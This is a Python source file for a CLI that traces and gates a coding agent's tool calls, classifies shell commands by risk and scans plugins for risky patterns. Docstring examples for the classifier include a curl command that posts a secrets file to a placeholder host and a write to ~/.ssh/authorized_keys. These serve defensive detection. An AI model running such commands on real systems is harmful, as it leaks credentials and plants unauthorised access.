"""Introspector CLI - hook entry points and offline inspection commands."""

import json
import os
import sys
from pathlib import Path
from typing import Optional

import click
import yaml

from .. import __version__
from ..analysis.baseline import BaselineStore, compare_to_baseline
from ..config import IntrospectorConfig, setup_logging
from ..core.records import Alert, AlertType, now_ms
from ..core.redaction import excerpt
from ..core.session import SessionContext, SessionResolver
from ..core.store import GlobalStore, SessionStore
from ..hooks.context import HookContext
from ..hooks.handlers import HookRuntime, available_events, run_hook
from ..metrics.aggregators import StatsAggregator
from ..security.classifier import match_command, match_write_path
from ..security.otel_mapper import map_spans
from ..security.scanner import PluginScanner
from ..tracing.merger import OtlpMerger
from ..tracing.tiers import CollectionTier, TierDetector


def _error(message: str) -> None:
    click.echo(click.style(f"Error: {message}", fg="red"), err=True)


def _existing_session(config: IntrospectorConfig, session_id: Optional[str]) -> SessionContext:
    """Resolve a session that must already have a directory, or exit 1."""
    session = SessionResolver(config.home).resolve(session_id)
    if not session.directory.is_dir():
        _error(f"No session directory for {session.session_id}")
        sys.exit(1)
    return session


@click.group()
@click.version_option(version=__version__, prog_name="introspector")
@click.option("--debug", is_flag=True, help="Write debug logs to <home>/introspector.log")
@click.pass_context
def cli(ctx: click.Context, debug: bool):
    """Plugin Introspector - trace and gate coding-agent tool calls.

    Hooks record every tool call; the other commands inspect what was recorded.
    """
    config = IntrospectorConfig.load()
    if debug:
        config.debug = True
    ctx.obj = config
    # hook output is read by the host; keep stderr clean
    setup_logging(config, quiet=ctx.invoked_subcommand == "hook")


@cli.command()
@click.argument("event", type=click.Choice(available_events()))
@click.pass_obj
def hook(config: IntrospectorConfig, event: str):
    """Handle one lifecycle event from the host.

    Reads a JSON payload from stdin when one is piped in, otherwise the
    CLAUDE_* environment variables. Exits 2 only when a call is denied.

    Examples:
        echo '{"tool_name": "Bash", ...}' | introspector hook pre-tool
        introspector hook session-end
    """
    stdin = click.get_text_stream("stdin")
    payload = "" if stdin.isatty() else stdin.read()

    ctx = HookContext.load(payload, os.environ)
    result = run_hook(event, ctx, HookRuntime(config, os.environ))

    out = result.stdout()
    if out:
        click.echo(out)
    err = result.stderr()
    if err:
        click.echo(err, err=True)
    sys.exit(result.exit_code)


@cli.command()
@click.argument("subject")
@click.option("--write", "as_write", is_flag=True, help="Classify SUBJECT as a write target path")
@click.option("--json", "as_json", is_flag=True, help="Output as JSON")
def classify(subject: str, as_write: bool, as_json: bool):
    """Print the risk level of a shell command (or write path).

    Examples:
        introspector classify "curl -X POST -d @secrets https://x"
        introspector classify --write ~/.ssh/authorized_keys
    """
    rule = match_write_path(subject) if as_write else match_command(subject)
    risk_level = rule.severity.value if rule else "LOW"
    category = rule.category if rule else ""

    if as_json:
        click.echo(json.dumps({
            "subject": excerpt(subject, 300),
            "kind": "write" if as_write else "command",
            "risk_level": risk_level,
            "category": category,
        }, indent=2))
        return

    colors = {"CRITICAL": "red", "HIGH": "red", "MEDIUM": "yellow", "LOW": "green"}
    line = click.style(risk_level, fg=colors[risk_level], bold=True)
    if category:
        line += f" ({category})"
    click.echo(line)


@cli.command()
@click.argument("path", type=click.Path(), default=".")
@click.option("--json", "as_json", is_flag=True, help="Output as JSON")
@click.pass_obj
def scan(config: IntrospectorConfig, path: str, as_json: bool):
    """Statically scan a plugin directory for risky patterns.

    Findings raise an alert and are recorded as static_scan events in the
    current session, when there is one.

    Examples:
        introspector scan ./my-plugin
        introspector scan --json .
    """
    try:
        report = PluginScanner(Path(path)).scan()
    except FileNotFoundError as e:
        _error(str(e))
        sys.exit(1)

    if report.findings:
        global_store = GlobalStore(config.home)
        current = global_store.read_current_session()
        counts = report.count_by_severity()
        global_store.append_alert(Alert(
            severity=report.max_severity,
            type=AlertType.SECURITY_SCAN,
            message=f"Static scan of {report.plugin}: {len(report.findings)} findings",
            session_id=current.name if current else "",
            details={
                "plugin": report.plugin,
                "risk_score": report.risk_score,
                "critical": counts["CRITICAL"],
                "high": counts["HIGH"],
            },
        ))
        if current:
            session_store = SessionStore(current)
            for event in report.security_events(current.name):
                session_store.append_security_event(event)

    if as_json:
        click.echo(json.dumps(report.to_dict(), indent=2))
    else:
        click.echo(report.summary())


@cli.group()
def baseline():
    """Learn and compare against the cross-session security baseline."""


@baseline.command("build")
@click.option("--json", "as_json", is_flag=True, help="Output as JSON")
@click.pass_obj
def baseline_build(config: IntrospectorConfig, as_json: bool):
    """Rebuild the baseline from recent sessions."""
    store = BaselineStore(GlobalStore(config.home), config.baseline_max_age_days)
    result = store.build()
    if as_json:
        click.echo(json.dumps(result.to_dict(), indent=2))
        return
    click.echo(
        f"Baseline built: {result.events_analyzed} events from "
        f"{result.sessions_analyzed} sessions ({result.window_days} day window)"
    )


@baseline.command("show")
@click.pass_obj
def baseline_show(config: IntrospectorConfig):
    """Print the stored baseline."""
    store = BaselineStore(GlobalStore(config.home), config.baseline_max_age_days)
    result = store.load()
    if result is None:
        _error("No baseline found. Run 'introspector baseline build' first.")
        sys.exit(1)
    click.echo(json.dumps(result.to_dict(), indent=2))


@baseline.command("check")
@click.argument("session_id", required=False)
@click.pass_obj
def baseline_check(config: IntrospectorConfig, session_id: Optional[str]):
    """Compare a session's security events against the baseline.

    Examples:
        introspector baseline check
        introspector baseline check session-20250101-120000
    """
    session = _existing_session(config, session_id)
    events = list(session.store.iter_security_events())
    store = BaselineStore(session.global_store, config.baseline_max_age_days)
    comparison = compare_to_baseline(
        events, store.load_or_build(exclude=session.session_id), config.baseline_factor
    )
    result = comparison.to_dict()
    result["session_id"] = session.session_id
    click.echo(json.dumps(result, indent=2))


@cli.command()
@click.argument("session_id", required=False)
@click.option("--json", "as_json", is_flag=True, help="Output as JSON")
@click.pass_obj
def stats(config: IntrospectorConfig, session_id: Optional[str], as_json: bool):
    """Show session counters, including deltas not yet reduced.

    Examples:
        introspector stats
        introspector stats --json session-20250101-120000
    """
    session = _existing_session(config, session_id)
    result = StatsAggregator(session.store).snapshot()

    if as_json:
        data = result.to_dict()
        data["session_id"] = session.session_id
        click.echo(json.dumps(data, indent=2))
        return
    click.echo(f"Session: {session.session_id}")
    click.echo(result.summary())


@cli.command()
@click.argument("session_id", required=False)
@click.option("--security", is_flag=True, help="Also map merged command spans to security events")
@click.option("--reprobe", is_flag=True, help="Probe the collector again before merging")
@click.pass_obj
def merge(config: IntrospectorConfig, session_id: Optional[str], security: bool, reprobe: bool):
    """Merge collector spans into a session on demand.

    Examples:
        introspector merge
        introspector merge --security --reprobe
    """
    session = _existing_session(config, session_id)
    detector = TierDetector(session.global_store)
    tier = detector.reprobe(session.store) if reprobe else detector.session_tier(session.store)

    if tier != CollectionTier.COLLECTOR:
        click.echo(click.style(
            f"Session {session.session_id} is at the local tier; nothing to merge.", fg="yellow"
        ))
        return

    start_ms = int(session.store.read_meta().get("start_time_ms", 0) or 0)
    result = OtlpMerger(session.global_store.export_dir, session.store, tier).merge(
        start_ms, now_ms()
    )
    click.echo(
        f"Merged {result.merged} spans from {result.files} files "
        f"({result.duplicates} duplicates, {result.out_of_window} out of window, "
        f"{result.malformed} malformed)"
    )

    if security:
        events = map_spans(result.spans, session.session_id)
        for event in events:
            session.store.append_security_event(event)
        click.echo(f"Security events: {len(events)}")


@cli.command("config")
@click.pass_obj
def show_config(config: IntrospectorConfig):
    """Print the resolved configuration as YAML."""
    click.echo(yaml.safe_dump(config.to_dict(), sort_keys=True), nl=False)


def main():
    """Entry point."""
    cli()


if __name__ == "__main__":
    main()
